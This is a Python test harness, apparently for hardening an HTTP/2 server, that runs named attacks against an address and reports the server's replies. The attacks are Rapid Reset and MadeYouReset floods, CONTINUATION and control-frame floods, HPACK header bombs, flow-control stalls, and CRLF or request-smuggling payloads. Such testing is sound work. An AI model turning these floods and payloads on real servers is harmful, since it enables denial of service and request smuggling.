"""Clients of HTTP/2 that mean no good, one for each attack there is a name for, and one that only wants to be served.

hostile.py honest ADDRESS         asks, again and again, on connections of its own, until SIGTERM; then says how it went
hostile.py list                   names of the attacks
hostile.py NAME ADDRESS           attacks; says as JSON what the server did

What is said of the server: `goaway`, the code it ended the connection with; `resets`, the codes it ended streams with and
how often; `statuses`, its answers and how many; `closed`, true if the connection ended; `sent`, frames sent; `got`, bytes
of bodies; `pongs`, answers to PING.
"""

import collections
import json
import signal
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
    "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
# How long an answer may take before the attacker thinks that none comes.
PATIENCE = 40.0
# More of anything than a server should bear.
FLOOD = 200_000
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "h.example"), (":path", "/small")]


def with_path(path):
    return [*GET[:3], (":path", path)]


def flagged(frame, **flags):
    for flag, is_set in flags.items():
        if is_set:
            frame.flags.add(flag)
    return frame


class Peer:
    """A connection that sends whatever it is told to, and hears all that comes."""

    def __init__(self, address, settings=None, preface=PREFACE, reads=True, narrow=False):
        host, port = address.rsplit(":", 1)
        self.socket = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        if narrow:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(PATIENCE)
        self.socket.connect((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.goaway, self.closed, self.sent, self.got, self.pongs = None, False, 0, 0, 0
        self.resets, self.statuses = collections.Counter(), collections.Counter()
        self.ended = set()
        self.heard = threading.Condition()
        self.stream, self.partial = -1, b""
        self.put(preface)
        if preface == PREFACE:
            self.frame(SettingsFrame(0, settings=settings or {}))
        self.reader = threading.Thread(target=self.read, daemon=True)
        if reads:
            self.reader.start()

    # What it sends.

    def put(self, data):
        """False once the server does not listen any more."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def frame(self, *frames):
        self.sent += len(frames)
        return self.put(b"".join(frame.serialize() for frame in frames))

    def next_stream(self):
        self.stream += 2
        return self.stream

    def headers(self, headers=GET, end_stream=True, end_headers=True, stream=None, encoded=None):
        data = encoded if encoded is not None else self.encoder.encode(headers)
        frame = HeadersFrame(stream if stream is not None else self.next_stream(), data)
        return flagged(frame, END_STREAM=end_stream, END_HEADERS=end_headers)

    def ask(self, headers=GET, **how):
        frame = self.headers(headers, **how)
        self.frame(frame)
        return frame.stream_id

    # What it hears.

    def read(self):
        buffer = b""
        while True:
            try:
                data = self.socket.recv(65536)
            except OSError:
                data = b""
            if not data:
                with self.heard:
                    self.closed = True
                    self.heard.notify_all()
                return
            buffer += data
            while len(buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(buffer[9 : 9 + length]))
                buffer = buffer[9 + length :]
                with self.heard:
                    self.hear(frame)
                    self.heard.notify_all()

    def hear(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.goaway = CODES[frame.error_code]
        elif isinstance(frame, RstStreamFrame):
            self.resets[CODES[frame.error_code]] += 1
            self.ended.add(frame.stream_id)
        elif isinstance(frame, HeadersFrame | ContinuationFrame):
            self.partial += frame.data
            if "END_HEADERS" in frame.flags:
                for name, value in self.decoder.decode(self.partial):
                    if name == ":status":
                        self.statuses[str(value)] += 1
                self.partial = b""
        elif isinstance(frame, DataFrame):
            self.got += len(frame.data)
        elif isinstance(frame, PingFrame):
            self.pongs += "ACK" in frame.flags
        if "END_STREAM" in frame.flags:
            self.ended.add(frame.stream_id)

    def wait(self, what):
        """Waits until it is so, or the connection has ended."""
        with self.heard:
            return self.heard.wait_for(lambda: self.closed or what(), PATIENCE)

    def wait_closed(self):
        self.wait(lambda: False)

    def wait_answered(self, stream):
        self.wait(lambda: stream in self.ended)

    def wait_ping(self):
        """Waits until what was sent so far has been looked at."""
        pongs = self.pongs
        self.frame(PingFrame(0, opaque_data=b"are you?"))
        self.wait(lambda: self.pongs > pongs)

    def flood(self, frames, size=100):
        """The frames in turn, many times over, until the server does not listen any more."""
        bunch = b"".join(frame.serialize() for frame in frames) * size
        while self.sent < FLOOD and not self.closed:
            self.sent += size * len(frames)
            if not self.put(bunch):
                break

    def said(self):
        return {
            "goaway": self.goaway, "resets": dict(self.resets), "statuses": dict(self.statuses), "closed": self.closed,
            "sent": self.sent, "got": self.got, "pongs": self.pongs,
        }


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def one(name, headers, body=(), end_stream=None, trailers=None):
    """An attack that is one request, which must not harm those beside it: a good one must be answered after it."""

    def single(address):
        peer = Peer(address)
        frames = [peer.headers(headers, end_stream=not body if end_stream is None else end_stream)]
        stream = frames[0].stream_id
        for index, data in enumerate(body):
            is_last = index + 1 == len(body) and trailers is None
            frames.append(flagged(DataFrame(stream, data), END_STREAM=is_last))
        if trailers is not None:
            frames.append(peer.headers(trailers, stream=stream))
        peer.frame(*frames)
        peer.wait_answered(stream)
        peer.wait_answered(peer.ask(with_path("/after")))
        return peer

    ATTACKS[name] = single


# Requests that are begun and taken back.


def until_closed(peer):
    peer.wait_closed()
    return peer


@attack
def rapid_reset(address):
    peer = Peer(address)
    while peer.sent < FLOOD and not peer.closed:
        frames = []
        for _ in range(50):
            stream = peer.next_stream()
            frames += [peer.headers(with_path("/hang"), stream=stream), RstStreamFrame(stream, error_code=8)]
        if not peer.frame(*frames):
            break
    return until_closed(peer)


@attack
def rapid_reset_after_a_while(address):
    """Each only once the server has begun with it."""
    peer = Peer(address)
    while peer.sent < FLOOD and not peer.closed:
        streams = [peer.next_stream() for _ in range(50)]
        peer.frame(*(peer.headers(with_path("/hang"), stream=stream) for stream in streams))
        peer.wait_ping()
        if not peer.frame(*(RstStreamFrame(stream, error_code=8) for stream in streams)):
            break
    return until_closed(peer)


@attack
def reset_before_the_head_is_whole(address):
    peer = Peer(address)
    stream = peer.next_stream()
    peer.frame(peer.headers(stream=stream, end_headers=False), RstStreamFrame(stream, error_code=8))
    return until_closed(peer)


def made_to_reset(name, *frames_of):
    """MadeYouReset: each stream is broken in a way that has the server reset it."""

    def attack(address):
        peer = Peer(address)
        while peer.sent < FLOOD and not peer.closed:
            frames = []
            for _ in range(20):
                stream = peer.next_stream()
                frames.append(peer.headers(with_path("/hang"), stream=stream, end_stream=False))
                frames += [frame_of(peer, stream) for frame_of in frames_of]
            if not peer.frame(*frames):
                break
        return until_closed(peer)

    ATTACKS[name] = attack


def window_update(by):
    return lambda _, stream: Raw(8, 0, stream, struct.pack(">I", by))


class Raw:
    """A frame that the libraries would not make."""

    def __init__(self, kind, flags, stream, payload=b""):
        self.kind, self.flags, self.stream_id, self.payload = kind, flags, stream, payload

    def serialize(self):
        head = struct.pack(">I", len(self.payload))[1:] + struct.pack(">BBI", self.kind, self.flags, self.stream_id)
        return head + self.payload


def end(_, stream):
    return flagged(DataFrame(stream, b""), END_STREAM=True)


made_to_reset("reset_by_window_overflow", window_update(2**31 - 1))
made_to_reset("reset_by_window_zero", window_update(0))
made_to_reset("reset_by_own_dependency", lambda _, stream: Raw(2, 0, stream, struct.pack(">IB", stream, 16)))
made_to_reset("reset_by_data_after_the_end", end, lambda _, stream: DataFrame(stream, b"more"))
made_to_reset("reset_by_head_after_the_end", end, lambda peer, stream: peer.headers(stream=stream))
made_to_reset("reset_by_priority_of_wrong_length", lambda _, stream: Raw(2, 0, stream, b"four"))


@attack
def more_than_allowed_at_once(address):
    peer = Peer(address)
    while peer.sent < FLOOD and not peer.closed:
        if not peer.frame(*(peer.headers(with_path("/hang")) for _ in range(100))):
            break
    return until_closed(peer)


# Heads without end.


@attack
def continuations_without_end(address):
    peer = Peer(address)
    peer.frame(peer.headers(end_headers=False))
    peer.flood([ContinuationFrame(1, peer.encoder.encode([("x", "y" * 8000)], huffman=False))], size=1)
    return until_closed(peer)


@attack
def small_continuations(address):
    peer = Peer(address)
    peer.frame(peer.headers(end_headers=False))
    peer.flood([ContinuationFrame(1, peer.encoder.encode([("a", "b")]))])
    return until_closed(peer)


@attack
def empty_continuations(address):
    peer = Peer(address)
    peer.frame(peer.headers(end_headers=False))
    peer.flood([ContinuationFrame(1, b"")])
    return until_closed(peer)


@attack
def long_heads_that_end(address):
    """Each a little longer than allowed, and whole."""
    peer = Peer(address)
    for _ in range(30):
        block = peer.encoder.encode([*GET, ("x", "y" * 20_000)], huffman=False)
        stream = peer.next_stream()
        last = flagged(ContinuationFrame(stream, block[16_000:]), END_HEADERS=True)
        peer.frame(peer.headers(stream=stream, encoded=block[:16_000], end_headers=False), last)
        peer.wait_answered(stream)
    return peer


@attack
def header_bomb(address):
    """A long value put into the table once, and then named a thousand times with a byte each."""
    peer = Peer(address)
    peer.wait_answered(peer.ask([*GET, ("x", "y" * 2_000)]))
    while peer.sent < 2_000 and not peer.closed:
        block = peer.encoder.encode(GET) + b"\xbe" * 16_000
        if not peer.frame(peer.headers(encoded=block)):
            break
        peer.wait_ping()
    return peer


@attack
def many_small_headers(address):
    peer = Peer(address)
    stream = peer.ask([*GET, *((f"h{n}", "v") for n in range(400))])
    peer.wait_answered(stream)
    return peer


@attack
def headers_without_names(address):
    """CVE-2019-9516: names and values of no length."""
    peer = Peer(address)
    while peer.sent < 300 and not peer.closed:
        if not peer.frame(peer.headers(encoded=peer.encoder.encode(GET) + b"\x00\x00\x00" * 4_000)):
            break
    peer.wait_ping()
    return peer


@attack
def table_sizes(address):
    """Dynamic table updates: more than the setting allows."""
    peer = Peer(address)
    peer.frame(peer.headers(encoded=b"\x3f\xe1\xff\xff\x03" + peer.encoder.encode(GET)))
    return until_closed(peer)


@attack
def half_a_head(address):
    """One that never ends: HEADERS, and then only PINGs are possible; none comes."""
    peer = Peer(address)
    peer.frame(peer.headers(end_headers=False))
    return until_closed(peer)


@attack
def half_a_frame(address):
    peer = Peer(address)
    peer.put(peer.headers().serialize()[:-3])
    return until_closed(peer)


@attack
def half_a_body(address):
    peer = Peer(address)
    stream = peer.ask([(":method", "POST"), *GET[1:], ("content-length", "100")], end_stream=False)
    peer.frame(DataFrame(stream, b"a little"))
    peer.wait_answered(stream)
    peer.wait_answered(peer.ask(with_path("/after")))
    return peer


# Frames that carry nothing.


def flooded(name, *frames, begin=None):
    def attack(address):
        peer = Peer(address)
        if begin:
            begin(peer)
        peer.flood(frames)
        return until_closed(peer)

    ATTACKS[name] = attack


def post(peer):
    peer.ask([(":method", "POST"), *GET[1:3], (":path", "/hang")], end_stream=False)


def cancelled(peer):
    stream = peer.ask(with_path("/hang"))
    peer.frame(RstStreamFrame(stream, error_code=8))


flooded("pings", PingFrame(0, opaque_data=b"12345678"))
flooded("settings", SettingsFrame(0, settings={4: 70_000}))
flooded("empty_settings", SettingsFrame(0))
flooded("table_size_settings", SettingsFrame(0, settings={1: 0}), SettingsFrame(0, settings={1: 2**32 - 1}))
flooded("priorities", Raw(2, 0, 1, struct.pack(">IB", 3, 16)), Raw(2, 0, 3, struct.pack(">IB", 5, 16)))
flooded("empty_data", DataFrame(1, b""), begin=post)
flooded("small_data", DataFrame(1, b"x"), begin=post)
flooded("resets_of_nothing", RstStreamFrame(1, error_code=8), begin=cancelled)
flooded("unknown_frames", Raw(0xBE, 0, 0, b"noise"))
flooded("windows", Raw(8, 0, 0, struct.pack(">I", 1_000)))
flooded("small_windows", Raw(8, 0, 0, struct.pack(">I", 1)))


@attack
def pings_never_read(address):
    """Whose answers nobody takes: they must not pile up."""
    peer = Peer(address, reads=False, narrow=True)
    peer.socket.settimeout(5)
    peer.flood([PingFrame(0, opaque_data=b"12345678")] * 10)
    peer.reader.start()
    return until_closed(peer)


# Answers that are not taken.


@attack
def never_reads(address):
    """As many long answers as may be, and a window that is open; the bytes are not read."""
    peer = Peer(address, settings={4: 2**31 - 1}, reads=False, narrow=True)
    peer.frame(Raw(8, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
    peer.frame(*(peer.headers(with_path("/large")) for _ in range(100)))
    # That the connection has ended is seen by sending: a frame that nobody knows, now and then.
    end = time.monotonic() + PATIENCE
    while time.monotonic() < end and not peer.closed:
        peer.closed = not peer.frame(Raw(0xBE, 0, 0))
        time.sleep(0.1)
    return peer


@attack
def no_window(address):
    """None for any stream; the connection's own is open."""
    peer = Peer(address, settings={4: 0})
    peer.frame(*(peer.headers(with_path("/large")) for _ in range(100)))
    peer.wait(lambda: len(peer.ended) == 100)
    peer.wait_ping()
    return peer


@attack
def one_without_a_window(address):
    """One answer that is not taken, and many beside it that are."""
    peer = Peer(address, settings={4: 1_000})
    stuck = peer.ask(with_path("/large"))
    while stuck not in peer.ended and not peer.closed:
        peer.wait_answered(peer.ask())
    peer.wait_answered(peer.ask())
    return peer


@attack
def no_window_of_the_connection(address):
    """As much as fits into it is taken of a hundred answers, and no more."""
    peer = Peer(address, settings={4: 2**31 - 1})
    peer.frame(*(peer.headers(with_path("/large")) for _ in range(100)))
    return until_closed(peer)


@attack
def window_by_drops(address):
    """CVE-2019-9511: an answer byte by byte, as fast as it can."""
    peer = Peer(address, settings={4: 0})
    stream = peer.ask(with_path("/large"))
    peer.flood([Raw(8, 0, stream, struct.pack(">I", 1))], size=20)
    return until_closed(peer)


@attack
def small_bites(address):
    """None, though it may look like one: a long answer taken in small bites, each of them acknowledged."""
    peer = Peer(address)
    stream, taken = peer.ask(with_path("/large")), 0
    while stream not in peer.ended:
        peer.wait(lambda: peer.got > taken or stream in peer.ended)
        assert not peer.closed, peer.said()
        bites, rest = divmod(peer.got - taken, 64)
        taken = peer.got
        frames = [Raw(8, 0, on, struct.pack(">I", 64)) for on in (0, stream)] * bites
        frames += [Raw(8, 0, on, struct.pack(">I", rest)) for on in (0, stream) if rest]
        if stream not in peer.ended:
            peer.frame(*frames)
    assert peer.got == 512 << 10, peer.said()
    return peer


# Not HTTP/2.


def ended(name, *frames, preface=PREFACE, begin=None):
    """What ends the connection at once."""

    def attack(address):
        peer = Peer(address, preface=preface)
        if begin:
            begin(peer)
        peer.frame(*frames)
        return until_closed(peer)

    ATTACKS[name] = attack


ended("data_before_a_head", DataFrame(1, b"x"))
ended("data_on_no_stream", Raw(0, 0, 0, b"x"))
ended("head_on_no_stream", Raw(1, 5, 0, hpack.Encoder().encode(GET)))
ended("head_on_an_even_stream", Raw(1, 5, 2, hpack.Encoder().encode(GET)))
ended("streams_backwards", Raw(1, 5, 5, hpack.Encoder().encode(GET)), Raw(1, 5, 3, b"\x82\x86\x84\x41\x01h"))
ended("continuation_of_nothing", Raw(9, 4, 1, b"\x82"))
ended("ping_within_a_head", Raw(1, 1, 1, b"\x82"), PingFrame(0, opaque_data=b"12345678"))
ended("continuation_of_another", Raw(1, 1, 1, b"\x82"), Raw(9, 4, 3, b"\x86"))
ended("settings_on_a_stream", Raw(4, 0, 1))
ended("settings_of_wrong_length", Raw(4, 0, 0, b"five5"))
ended("settings_window_too_large", Raw(4, 0, 0, struct.pack(">HI", 4, 2**31)))
ended("settings_frame_size_too_small", Raw(4, 0, 0, struct.pack(">HI", 5, 100)))
ended("settings_ack_with_words", Raw(4, 1, 0, b"123456"))
ended("ping_of_wrong_length", Raw(6, 0, 0, b"seven77"))
ended("ping_on_a_stream", Raw(6, 0, 1, b"12345678"))
ended("push_promise", Raw(5, 4, 1, struct.pack(">I", 2) + b"\x82"), begin=cancelled)
ended("reset_of_an_idle_stream", Raw(3, 0, 1, struct.pack(">I", 8)))
ended("window_of_an_idle_stream", Raw(8, 0, 1, struct.pack(">I", 8)))
ended("connection_window_zero", Raw(8, 0, 0, struct.pack(">I", 0)))
ended("connection_window_overflow", Raw(8, 0, 0, struct.pack(">I", 2**31 - 1)))
ended("frame_too_large", Raw(0, 0, 1, b"x" * 20_000), begin=post)
ended("padding_longer_than_the_frame", Raw(0, 8, 1, b"\xffx"), begin=post)
ended("head_that_is_no_hpack", Raw(1, 5, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff"))
ended("index_of_nothing", Raw(1, 5, 1, b"\x80"))
ended("preface_that_is_none", preface=b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")


@attack
def settings_not_first(address):
    peer = Peer(address, preface=PREFACE + PingFrame(0, opaque_data=b"12345678").serialize())
    return until_closed(peer)


# Requests that are none, or two.

POST = [(":method", "POST"), *GET[1:]]
one("crlf_in_a_value", [*GET, ("x", "a\r\nhost: evil")])
one("cr_in_a_value", [*GET, ("x", "a\rb")])
one("lf_in_a_value", [*GET, ("x", "a\nb")])
one("nul_in_a_value", [*GET, ("x", "a\0b")])
one("crlf_in_a_path", with_path("/a\r\nhost: evil"))
one("space_in_a_path", with_path("/a HTTP/1.1"))
one("path_without_slash", with_path("a"))
one("empty_path", with_path(""))
one("star", [(":method", "OPTIONS"), *GET[1:3], (":path", "*")])
one("fragment", with_path("/a#b"))
one("no_path", GET[:3])
one("no_method", GET[1:])
one("no_scheme", [GET[0], *GET[2:]])
one("no_authority", [*GET[:2], GET[3]])
one("authority_with_user", [*GET[:2], (":authority", "user@h"), GET[3]])
one("authority_with_space", [*GET[:2], (":authority", "a b"), GET[3]])
one("authority_with_path", [*GET[:2], (":authority", "h/evil"), GET[3]])
one("host_is_another", [*GET, ("host", "evil")])
one("two_hosts", [*GET[:2], GET[3], ("host", "a"), ("host", "b")])
one("two_paths", [*GET, (":path", "/b")])
one("two_methods", [(":method", "POST"), *GET])
one("unknown_pseudo_header", [*GET, (":evil", "1")])
one("pseudo_header_of_answers", [*GET, (":status", "200")])
one("pseudo_header_after_others", [*GET[:3], ("a", "b"), GET[3]])
one("method_with_space", [(":method", "GET /evil HTTP/1.1"), *GET[1:]])
one("method_with_crlf", [(":method", "GET\r\n"), *GET[1:]])
one("scheme_with_crlf", [GET[0], (":scheme", "http\r\n"), *GET[2:]])
one("uppercase_name", [*GET, ("Upper", "a")])
one("name_with_space", [*GET, ("a b", "c")])
one("name_with_colon", [*GET, ("a:b", "c")])
one("name_with_crlf", [*GET, ("a\r\nb", "c")])
one("name_of_nothing", [*GET, ("", "c")])
one("connection_header", [*GET, ("connection", "x")])
one("keep_alive_header", [*GET, ("keep-alive", "5")])
one("proxy_connection_header", [*GET, ("proxy-connection", "close")])
one("upgrade_header", [*GET, ("upgrade", "websocket")])
one("transfer_encoding", [*POST, ("transfer-encoding", "chunked")], body=[b"0\r\n\r\n"])
one("te_other_than_trailers", [*GET, ("te", "gzip")])
one("connect", [(":method", "CONNECT"), (":authority", "evil:80")])
one("connect_with_a_path", [(":method", "CONNECT"), *GET[1:]])
one("extended_connect", [(":method", "CONNECT"), (":protocol", "websocket"), *GET[1:]])
one("extended_connect_to_something_else", [(":method", "CONNECT"), (":protocol", "connect-udp"), *GET[1:]])
one("trace", [(":method", "TRACE"), *GET[1:]])
one("verdict_header", [*GET, ("seawall-gate-verdict", "x")])
one("length_more_than_data", [*POST, ("content-length", "10")], body=[b"abc"])
one("length_less_than_data", [*POST, ("content-length", "2")], body=[b"abc", b"def"])
one("length_without_data", [*POST, ("content-length", "2")], end_stream=True)
one("two_lengths", [*POST, ("content-length", "3"), ("content-length", "4")], body=[b"abc"])
one("length_that_is_none", [*POST, ("content-length", "+3")], body=[b"abc"])
one("length_as_list", [*POST, ("content-length", "3, 3")], body=[b"abc"])
one("length_far_too_long", [*POST, ("content-length", "9" * 30)], body=[b"abc"])
one("smuggled_request", POST, body=[b"0\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil\r\n\r\n"])
one("pseudo_header_in_trailers", POST, body=[b"abc"], trailers=[(":path", "/evil")])
one("forbidden_trailers", POST, body=[b"abc"], trailers=[("content-length", "9"), ("host", "evil")])
one("trailers_with_crlf", POST, body=[b"abc"], trailers=[("x", "a\r\nb: c")])


def honest(address):
    """What anybody wants: whole answers. One connection at a time, a few streams on each, all by the library `h2`."""
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    print("begins", file=sys.stderr, flush=True)
    served, failed = 0, []
    while not stop.is_set():
        try:
            served += honest_connection(address)
        except Exception as error:  # Whatever it is, it is told.
            failed.append(repr(error))
    print(json.dumps({"served": served, "failed": failed}), file=sys.stderr, flush=True)


def honest_connection(address, streams=8):
    host, port = address.rsplit(":", 1)
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    with socket.create_connection((host, int(port)), timeout=60) as wire:
        connection.initiate_connection()
        statuses, bodies = {}, collections.defaultdict(bytes)
        waiting = set()
        for _ in range(streams):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, with_path("/honest"), end_stream=True)
            waiting.add(stream)
        while waiting:
            wire.sendall(connection.data_to_send())
            data = wire.recv(65536)
            assert data, "the connection ended"
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    statuses[event.stream_id] = dict(event.headers)[":status"]
                elif isinstance(event, h2.events.DataReceived):
                    bodies[event.stream_id] += event.data
                    connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    waiting.discard(event.stream_id)
                elif isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                    raise AssertionError(f"broken off: {event}")
        connection.close_connection()
        wire.sendall(connection.data_to_send())
    assert set(statuses.values()) == {"200"} and set(bodies.values()) == {b"small"}, (statuses, dict(bodies))
    return streams


if __name__ == "__main__":
    if sys.argv[1] == "honest":
        honest(sys.argv[2])
    elif sys.argv[1] == "list":
        print("\n".join(ATTACKS))
    else:
        print(json.dumps(ATTACKS[sys.argv[1]](sys.argv[2]).said()))
